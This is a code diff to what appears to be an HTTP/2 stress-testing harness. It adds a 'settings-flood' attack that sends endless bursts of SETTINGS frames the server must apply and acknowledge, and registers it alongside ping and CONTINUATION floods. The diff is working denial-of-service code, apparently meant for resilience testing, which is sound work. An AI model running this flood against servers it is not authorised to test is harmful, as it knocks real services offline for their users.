@@ -527,6 +527,26 @@ def attack_ping_flood(args, report, deadline):
     return conns
 
 
+def attack_settings_flood(args, report, deadline):
+    """SETTINGS frames (each one a setting h2 must apply and acknowledge) as
+    fast as the socket takes them."""
+    def setup(conn):
+        conn.handshake()
+
+    conns = open_conns(args, report, deadline, setup)
+
+    def step(conn):
+        frames = []
+        for i in range(100):
+            settings = SettingsFrame(0)
+            settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 65535 + (i % 2)
+            frames.append(settings)
+        conn.send_frames(*frames)
+
+    watch(conns, deadline, step, reopen(args, report, setup))
+    return conns
+
+
 def attack_continuation_flood(args, report, deadline):
     """A HEADERS frame followed by endless CONTINUATION frames."""
     def setup(conn):
@@ -552,6 +572,7 @@ ATTACKS = {
     "large-response": attack_large_response,
     "announced-length": attack_announced_length,
     "ping-flood": attack_ping_flood,
+    "settings-flood": attack_settings_flood,
     "continuation-flood": attack_continuation_flood,
 }
 
